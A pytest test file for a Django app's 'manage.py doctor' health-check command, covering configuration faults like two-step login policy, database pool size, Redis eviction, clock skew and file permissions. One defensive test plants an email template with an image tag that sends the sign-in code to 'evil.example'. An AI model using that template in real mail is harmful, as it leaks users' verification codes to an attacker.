"""``manage.py doctor`` names each fault that was put in, and says how to fix it."""

import json
from datetime import timedelta
from pathlib import Path

import pytest
import time_machine
from django.conf import settings as configured
from django.db import NotSupportedError, OperationalError, connection
from django.utils import timezone
from redis import Redis

from database.redis import shared_redis
from identity.users import argon2_builds, hashing_process
from identity.users.argon2_functions import LIBSODIUM
from interaction.experience.models import SignInExperience
from management.administrators.models import Administrator
from tests.support import operators, redis_server
from tests.support.doctor import LEVELS, examined, message
from tests.support.doctor_faults import FAULTS


class TestFaults:
    @pytest.mark.parametrize("fault", FAULTS, ids=lambda fault: fault.__name__)
    def test_each_is_named_with_a_way_to_mend_it(self, acme, settings, undone, no_leftovers, fault):
        before = examined()

        fault(settings, acme)

        found = examined()
        # What earlier tests left in the database may be a finding already; it says more now.
        assert message(found, FAULTS[fault]) not in {"", message(before, FAULTS[fault])}
        assert len(found[FAULTS[fault]]["fix"]) > 20
        assert found[FAULTS[fault]]["level"] == LEVELS[FAULTS[fault].partition(".")[2][0]]

    def test_superusers_with_two_steps_are_none(self, acme, settings, undone):
        Administrator.objects.update(second_step_since=timezone.now())
        optional = examined()
        # Of those who manage less it does not speak; what is required they set up before all else.
        operators.administrator(tenants=[acme.tenant.slug])
        settings.ADMIN_TWO_STEP = "required"
        operators.administrator(is_superuser=True)
        required = examined()

        assert {"administrators.W003", "administrators.E004"}.isdisjoint(optional.keys() | required.keys())

    def test_decision_M57_two_steps_are_recommended_when_every_superuser_has_them(self, settings, undone):
        operators.administrator(is_superuser=True)
        Administrator.objects.update(second_step_since=timezone.now())
        settings.DEVELOPMENT, settings.ADMIN_TWO_STEP = False, "optional"
        optional = examined()
        settings.ADMIN_TWO_STEP = "required"

        assert "ADMIN_TWO_STEP=required" in optional["administrators.I007"]["fix"]
        assert "administrators.I007" not in examined()

    def test_decision_M57_codes_that_no_connector_sends_are_reported(self, acme, settings, undone):
        with acme.active():
            SignInExperience.objects.update(mfa={"factors": ["Totp", "EmailVerificationCode"]})

        assert acme.tenant.slug in message(examined(), "experience.I007")

    def test_attack_AP49_each_message_that_tells_others_its_code_is_named(self, acme, undone):
        allowed = {"purpose": "sign_in", "channel": "email", "language": "", "html": "<b>{code}</b>"}
        refused = allowed | {"language": "de", "html": "<style></style>{code}"}
        picture = allowed | {"purpose": "register", "html": "{code}<img src=https://evil.example/{code}>"}
        with acme.active():
            SignInExperience.objects.update(message_templates=[allowed, refused, picture])

        found = message(examined(), "experience.W008")

        slug = acme.tenant.slug
        assert f"{slug} (sign_in email de: html must not contain the element <style> if it" in found
        assert f"{slug} (register email any language: html may contain {{code}} only in" in found
        assert "(sign_in email any language" not in found

    @pytest.mark.skipif(
        connection.vendor != "postgresql", reason="SQLite asks no connections and has no clock"
    )
    def test_more_threads_than_postgresql_lets_in(self, database, settings):
        settings.WEB_CONCURRENCY = 32
        assert "736 connections, but PostgreSQL allows" in message(examined(), "database.W003")

        settings.DATABASE_POOL = 2
        assert "database.W003" not in examined()

        settings.DATABASE_POOL = 16
        assert "512 connections, but PostgreSQL allows" in message(examined(), "database.W003")

    def test_what_is_enough_for_development(self, address, settings):
        in_production = examined()
        settings.DEVELOPMENT = True

        found = examined()

        assert "not encrypted on the network" in message(in_production, "address.W005")
        assert "ADMIN_MAIL_URL" in in_production["administrators.I006"]["fix"]
        assert {"address.W005", "administrators.I006"}.isdisjoint(found)

    def test_the_address_that_make_run_served_last(self, address, settings, monkeypatch, tmp_path):
        settings.DEVELOPMENT, settings.VAR = True, tmp_path
        served, settings.BASE_URL = settings.BASE_URL, "http://localhost:9"
        for name in ("PORT", "BASE_URL"):
            monkeypatch.delenv(name, raising=False)
        assert "http://localhost:9, does not respond" in message(examined(), "address.E001")

        (tmp_path / "address").write_text(served)

        assert {"address.E001", "address.E002"}.isdisjoint(examined())

    def test_packages_of_other_versions_than_the_lock_file_has(self, address, monkeypatch):
        monkeypatch.setattr("management.doctor.versions._installed", lambda _: "0.0.1")

        assert "0.0.1 instead of" in message(examined(), "versions.W002")

    def test_a_redis_that_drops_counts_when_it_is_full(self, address, settings):
        with redis_server.running() as server, Redis.from_url(server.url) as redis:
            settings.CACHE_URL = server.url
            shared_redis.cache_clear()
            redis.config_set("maxmemory", "64mb")
            before = examined()
            redis.config_set("maxmemory-policy", "allkeys-lru")

            found = examined()

        shared_redis.cache_clear()
        assert "cache.W002" not in before
        assert "evicts keys" in message(found, "cache.W002")

    def test_clocks_that_are_apart(self, address):
        with time_machine.travel(timezone.now() + timedelta(minutes=7)):
            found = examined()

        assert "seconds apart" in message(found, "address.W006")
        assert ("database.W006" in found) == (connection.vendor == "postgresql")

    @pytest.mark.skipif(connection.vendor != "sqlite", reason="PostgreSQL is for production")
    def test_sqlite_in_production(self, address):
        assert "SQLite" in message(examined(), "database.W004")

    @pytest.mark.skipif(connection.vendor != "sqlite", reason="only SQLite's data is a file of Gatehouse")
    def test_case_K17_a_database_that_others_may_read(self, address):
        path = Path(str(configured.DATABASES["default"]["NAME"]))
        path.chmod(0o640)
        try:
            assert str(path) in message(examined(), "files.E001")
        finally:
            path.chmod(0o600)

    def test_a_database_that_is_away_is_one_finding_and_not_one_of_each_question(self, database, monkeypatch):
        def away() -> None:
            raise OperationalError('connection to "db" failed: no password supplied for canary-password')

        monkeypatch.setitem(connection.settings_dict, "PASSWORD", "canary-password")
        monkeypatch.setattr(connection, "ensure_connection", away)
        monkeypatch.setattr(connection, "cursor", lambda *_: away())

        found = examined()

        assert "cannot be reached" in message(found, "database.E001")
        assert "canary" not in json.dumps(found)
        assert "doctor.E001" not in found

    def test_a_database_that_is_too_old(self, database, monkeypatch):
        def refuse() -> None:
            raise NotSupportedError("PostgreSQL 14 or later is required")

        monkeypatch.setattr(connection, "ensure_connection", refuse)

        assert "is too old: PostgreSQL 14" in message(examined(), "database.E002")

    def test_a_question_that_breaks_is_a_finding_and_keeps_no_other_from_being_asked(
        self, address, monkeypatch
    ):
        def broken() -> None:
            raise ZeroDivisionError("canary")

        monkeypatch.setattr("management.doctor.files._private", broken)

        found = examined()

        assert "files: the check failed (ZeroDivisionError)" in message(found, "doctor.E001")
        assert "canary" not in json.dumps(found)
        assert "versions.I001" in found


class TestMachine:
    @pytest.mark.parametrize(
        ("mode", "is_told"),
        [
            ("always [madvise] never", True),
            ("always madvise [never]", True),
            ("[always] madvise never", False),
        ],
    )
    def test_huge_pages_that_passwords_do_not_get_are_told(
        self, address, tmp_path, monkeypatch, mode, is_told
    ):
        enabled = tmp_path / "enabled"
        enabled.write_text(mode)
        monkeypatch.setattr("management.doctor.machine._HUGE_PAGES", enabled)
        # The builds request them.
        monkeypatch.setattr(argon2_builds, "find_supported", list)
        monkeypatch.setattr(hashing_process, "find_engine", lambda: LIBSODIUM)

        found = examined()

        assert ("machine.I001" in found) is is_told

    def test_a_machine_without_the_setting_is_told_nothing(self, address, tmp_path, monkeypatch):
        monkeypatch.setattr("management.doctor.machine._HUGE_PAGES", tmp_path / "enabled")

        assert "machine.I001" not in examined()
